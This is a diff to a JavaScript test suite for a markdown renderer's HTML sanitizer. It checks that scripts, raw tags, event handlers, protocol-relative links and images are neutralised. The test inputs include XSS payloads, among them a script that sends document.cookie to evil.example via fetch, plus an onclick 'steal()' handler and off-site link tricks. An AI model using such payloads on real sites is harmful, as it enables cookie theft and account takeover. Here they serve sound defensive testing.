@@ -22,11 +22,42 @@ describe('Module: kb/render', () => {
       expect(html).toContain('<td>1</td>');
     });
 
-    it('removes <script> elements and their content', () => {
+    it('writes no <script> element: what was inside it is inert text', () => {
       const html = renderMarkdown('Hello <script>alert(document.cookie)</script> world');
-      expect(html).not.toMatch(/<script|alert/i);
-      expect(html).toContain('Hello');
-      expect(html).toContain('world');
+      expect(html).toBe('<p>Hello alert(document.cookie) world</p>');
+    });
+
+    it('writes no raw HTML: tags and comments leave their text, escaped', () => {
+      // Act
+      const inline = renderMarkdown('Press <kbd>Ctrl</kbd>+<b>Alt</b> <!-- hidden --> & go');
+      const block = renderMarkdown(
+        '<div class="note" onclick="steal()">\nSave <i>first</i> & "then" quit\n</div>\n\nAfter',
+      );
+      const script = renderMarkdown('<script>\nfetch("https://evil.example/" + document.cookie)\n</script>');
+
+      // Assess
+      expect(inline).toBe('<p>Press Ctrl+Alt  &amp; go</p>');
+      expect(block).toBe('\nSave first &amp; &quot;then&quot; quit\n\n<p>After</p>');
+      expect(script).not.toMatch(/<script|<\/script/);
+      expect(script).toContain('fetch(&quot;https://evil.example/&quot; + document.cookie)');
+    });
+
+    it('keeps relative links to the desk and drops protocol-relative ones', () => {
+      expect(renderMarkdown('[see KB-12](/kb/articles/12) [up](#top)')).toBe(
+        '<p><a href="/kb/articles/12" rel="noopener noreferrer nofollow">see KB-12</a> <a href="#top" rel="noopener noreferrer nofollow">up</a></p>',
+      );
+      expect(
+        renderMarkdown('[away](//evil.example/x) [away](/\\evil.example/x) [chat](irc://irc.example/help)'),
+      ).toBe(
+        // A backslash is a path character here, written as %5C: the link stays on the desk.
+        '<p>away <a href="/%5Cevil.example/x" rel="noopener noreferrer nofollow">away</a> chat</p>',
+      );
+    });
+
+    it('shows what an image is of, not the image', () => {
+      expect(renderMarkdown('![The VPN icon](https://tracker.example/p.gif "tray")')).toBe(
+        '<p>The VPN icon</p>',
+      );
     });
 
     it.each([
